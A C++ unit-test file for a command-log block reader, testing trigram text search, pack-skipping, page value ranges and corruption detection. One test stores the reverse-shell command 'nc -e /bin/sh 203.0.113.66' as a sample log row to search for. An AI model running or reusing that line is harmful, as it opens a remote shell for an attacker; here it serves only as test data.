#include "collector/blocks/block_reader.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <random>

#include "tests/support/index_block.h"
#include "tests/support/random_rows.h"

namespace spoor::collector {
namespace {

// Texts enough for trigrams, with common and rare ones in them.
std::vector<Row> many_texts(std::vector<std::string>& kept) {
  std::vector<Row> rows(3000);
  for (size_t i = 0; i < rows.size(); ++i) {
    kept.push_back("Job-" + std::to_string(i * 2'654'435'761) + (i % 3 ? " --quiet" : " -v"));
  }
  for (size_t i = 0; i < rows.size(); ++i) {
    rows[i][Number::order] = i;
    rows[i][Text::command].text = kept[i];
  }
  return rows;
}

TEST(BlockReader, FindsWhatANaiveLookFinds) {
  std::vector<std::string> kept;
  const std::string block = seal(many_texts(kept));
  const BlockReader reader = BlockReader::open(as_bytes(block)).value();
  ASSERT_FALSE(reader.layout().dictionaries[static_cast<size_t>(Text::command)].slabs.empty());
  std::mt19937 random(1);
  for (int i = 0; i < 600; ++i) {
    const std::string& text = kept[random() % kept.size()];
    const size_t at = random() % text.size();
    std::string needle = text.substr(at, random() % 9);
    if (random() % 4 == 0 && !needle.empty()) needle[0] = 'z';
    TextTest test{random() % 3 ? Pattern::containing(needle) : Pattern::exactly(text)};
    test.same_case = random() % 2 == 0;
    std::vector<uint32_t> naive;
    for (size_t row = 0; row < kept.size(); ++row) {
      if (test.pattern.fits(kept[row], test.same_case)) {
        naive.push_back(static_cast<uint32_t>(row + 1));
      }
    }
    EXPECT_EQ(reader.find(Text::command, test)->fitting, naive) << test.pattern.to_text();
  }
}

// A search reads only packs that can match: those that it may not read are broken here.
TEST(BlockReader, ReadsOnlyPacksThatCanMatch) {
  std::vector<std::string> kept;
  std::vector<Row> rows = many_texts(kept);
  const std::string needle = "nc -e /bin/sh 203.0.113.66";
  rows[1000][Text::command].text = needle;
  std::string block = seal(rows);
  const BlockReader whole = BlockReader::open(as_bytes(block)).value();
  const auto& packs = whole.layout().dictionaries[static_cast<size_t>(Text::command)].packs;
  ASSERT_GT(packs.size(), 8u);
  for (const PackPlace& pack : packs) {
    if (pack.first <= 1001 && 1001 < pack.first + pack.texts) continue;
    block[pack.chunk.offset] = static_cast<char>(block[pack.chunk.offset] ^ 1);
  }
  const BlockReader torn = BlockReader::open(as_bytes(block)).value();
  EXPECT_EQ(torn.find(Text::command, {Pattern::containing("203.0.113.66")})->fitting,
            std::vector<uint32_t>{1001});
  EXPECT_EQ(torn.find(Text::command, {Pattern::containing("-e")}).code(), Code::corrupt);
}

TEST(BlockReader, PagesSayWhatTheyHold) {
  RandomRows random(1);
  const std::string block = seal(random.rows(3 * kPageRows));
  const BlockReader reader = BlockReader::open(as_bytes(block)).value();
  for (size_t p = 0; p < reader.pages(); ++p) {
    PageReader page(reader, p);
    for (const Number column : {Number::time_ms, Number::pid, Number::exit}) {
      const auto [least, greatest] = std::ranges::minmax(page.values(column).value());
      EXPECT_EQ(reader.range(column, p).least, least);
      EXPECT_EQ(reader.range(column, p).greatest, greatest);
    }
  }
  EXPECT_TRUE(reader.range(Number::port, 0).holds(0));
  EXPECT_FALSE(reader.range(Number::port, 0).holds(22));
  // Sessions lie together: none but the pages around a border have more than one.
  EXPECT_EQ(reader.range(Text::host, 0).least, 1u);
}

TEST(BlockReader, ATornBlockIsRefused) {
  RandomRows random(2);
  const std::string block = seal(random.rows(300));
  ASSERT_TRUE(read_whole(as_bytes(block)).is_ok());
  for (size_t size = 0; size < block.size(); ++size) {
    ASSERT_EQ(BlockReader::open(as_bytes(block).first(size)).code(), Code::corrupt);
  }
  EXPECT_EQ(BlockReader::open(as_bytes(block + "x")).code(), Code::corrupt);
}

TEST(BlockReader, EveryFlippedBitIsSeen) {
  RandomRows random(3);
  std::string block = seal(random.rows(40));
  for (size_t bit = 0; bit < block.size() * 8; ++bit) {
    char& byte = block[bit / 8];
    byte = static_cast<char>(byte ^ 1 << bit % 8);
    ASSERT_EQ(read_whole(as_bytes(block)).code(), Code::corrupt) << "bit " << bit;
    byte = static_cast<char>(byte ^ 1 << bit % 8);
  }
  EXPECT_TRUE(read_whole(as_bytes(block)).is_ok());
}

}  // namespace
}  // namespace spoor::collector
